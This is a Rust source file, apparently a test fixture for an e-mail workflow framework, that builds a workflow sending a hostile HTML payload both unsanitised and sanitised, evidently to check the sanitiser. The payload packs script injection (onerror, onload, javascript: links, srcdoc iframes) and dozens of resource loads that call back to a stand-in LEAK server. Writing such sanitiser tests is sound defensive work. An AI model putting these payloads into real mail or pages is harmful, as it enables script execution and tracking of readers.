//! E-mails that attack whoever shows them.

use novu_framework::{Context, Email, Registry, Result, Workflow};
use serde_json::{Value, json};

/// Markup that tries to run something or to ask the server at `LEAK`.
const HOSTILE: &str = r#"<p id="shown">shown</p>
<img src=x onerror="parent.pwned=1;top.pwned=1">
<script>parent.pwned=2</script>
<script src="LEAK/script"></script>
<style>@import "LEAK/import";body{background:url(LEAK/style)}@font-face{font-family:f;src:url(LEAK/font)}p{font-family:f}</style>
<meta http-equiv="refresh" content="0;url=LEAK/refresh">
<iframe src="javascript:parent.pwned=3"></iframe><iframe src="LEAK/frame"></iframe>
<iframe srcdoc="<script>top.pwned=4</script><img src='LEAK/srcdoc'>"></iframe>
<svg onload="top.pwned=5"><image href="LEAK/svg"/><a id="drawn" xlink:href="/drawn"><text y="20">x</text></a></svg>
<form action="LEAK/form"><input name=q autofocus onfocus="top.pwned=6"><button id="send">send</button></form>
<a id="away" href="javascript:top.pwned=7" target=_top>x</a>
<link rel=stylesheet href="LEAK/sheet"><link rel=preload href="LEAK/preload" as=image><link rel=dns-prefetch href="LEAK/dns">
<img src="LEAK/img"><img srcset="LEAK/srcset 1x"><input type=image src="LEAK/input">
<object data="LEAK/object"></object><embed src="LEAK/embed"><base href="LEAK/base/">
<video poster="LEAK/poster"><source src="LEAK/video"></video><audio src="LEAK/audio" autoplay></audio>
<table background="LEAK/table"><tr><td style="background:url(LEAK/cell)">y</td></tr></table>
<details open ontoggle="top.pwned=8"><summary>z</summary></details>
<p id="end">the end</p>"#;

/// Creates a workflow `raw` whose mail is its payload, once as it is and once as the sanitiser leaves it. The
/// example tries everything against the server at `leak`.
pub fn hostile_mail(leak: &str) -> Registry {
    let raw = Workflow::builder("raw", async |cx: Context<Value>| -> Result<()> {
        cx.step
            .email("as-it-is", || Email::new("A mail", html(&cx.payload)))
            .insecure_without_sanitization()
            .await?;
        cx.step
            .email("sanitised", || Email::new("A mail", html(&cx.payload)))
            .await?;
        Ok(())
    })
    .payload_schema(json!({
        "type": "object",
        "properties": { "html": { "type": "string" } },
        "required": ["html"],
    }))
    .example(json!({ "html": HOSTILE.replace("LEAK", leak) }));
    Registry::builder()
        .workflow(&raw.build())
        .build()
        .expect("a registry")
}

fn html(payload: &Value) -> String {
    payload["html"].as_str().unwrap_or_default().to_owned()
}
